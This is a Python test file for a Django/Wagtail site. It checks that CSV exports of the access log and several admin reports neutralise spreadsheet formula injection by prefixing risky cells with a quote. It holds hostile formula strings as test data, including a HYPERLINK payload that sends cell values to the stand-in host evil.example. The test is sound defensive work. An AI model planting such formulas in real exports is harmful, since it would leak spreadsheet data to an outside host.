"""Issue 15, finding 1: no CSV the site produces lets a spreadsheet run an officer's text.

Each export is downloaded through the admin's own "Download CSV" link, as the Chair (or an
administrator) would; every cell that began with =, +, -, @, a tab or a carriage return starts
with ' and the file still parses with the csv module.
"""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from papers.csv_export import neutralise
from papers.models import AccessLogEntry
from papers.roles import ensure_roles
from tests.factories import ChairUserFactory, ProposalIndexPageFactory, SuperuserFactory
from tests.papers.workflow_support import fresh

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://evil.example/?leak="&B3&C4,"Open board paper")'
HOSTILE = [LEAK, "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def download(user, url):
    client = Client(HTTP_HOST="localhost")
    client.force_login(user)
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def assert_neutralised(rows, titles):
    cells = [cell for row in rows[1:] for cell in row]
    for title in titles:
        # Some reports show the title as stored, some stripped of surrounding white space.
        as_text = {"'" + title, "'" + title.strip()}
        assert as_text & set(cells), f"{title!r} is not in the export as text"
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_rule_leaves_ordinary_cells_alone():
    assert neutralise("Recommission home care") == "Recommission home care"
    assert neutralise("") == ""
    assert neutralise(42) == 42
    assert neutralise(LEAK) == "'" + LEAK


def test_access_log_export_neutralises_document_titles():
    ensure_roles()
    for n, title in enumerate(HOSTILE):
        AccessLogEntry.objects.create(
            username="tom",
            object_type="document",
            object_id=n + 1,
            object_title=title,
            path=f"/documents/{n + 1}/",
            audience="board",
        )
    rows = download(ChairUserFactory(), reverse("access_log:index"))
    assert rows[0][4] == "Object title"
    assert len(rows) == len(HOSTILE) + 1
    assert_neutralised(rows, HOSTILE)


@pytest.fixture
def hostile_pages():
    """Drafts saved with a formula for a title: each is in Wagtail's reports."""
    index = ProposalIndexPageFactory()
    pages = []
    for title in HOSTILE:
        page = index.add_child(instance=index.specific_class(title=title, live=False))
        page = fresh(page)
        page.save_revision(log_action=True)
        pages.append(page)
    return pages


@pytest.mark.parametrize(
    "report", ["site_history", "workflow", "workflow_tasks", "aging_pages", "locked_pages"]
)
def test_wagtail_report_exports_neutralise_page_titles(hostile_pages, report):
    admin = SuperuserFactory()
    for page in hostile_pages:
        if report in ("workflow", "workflow_tasks"):
            page.get_workflow().start(page, admin)
        if report == "locked_pages":
            page.locked, page.locked_by = True, admin
            page.save(update_fields=["locked", "locked_by"])
        if report == "aging_pages":
            page.save_revision(user=admin).publish(user=admin)
    rows = download(admin, reverse(f"wagtailadmin_reports:{report}"))
    assert len(rows) > 1
    assert_neutralised(rows, [page.title for page in hostile_pages])
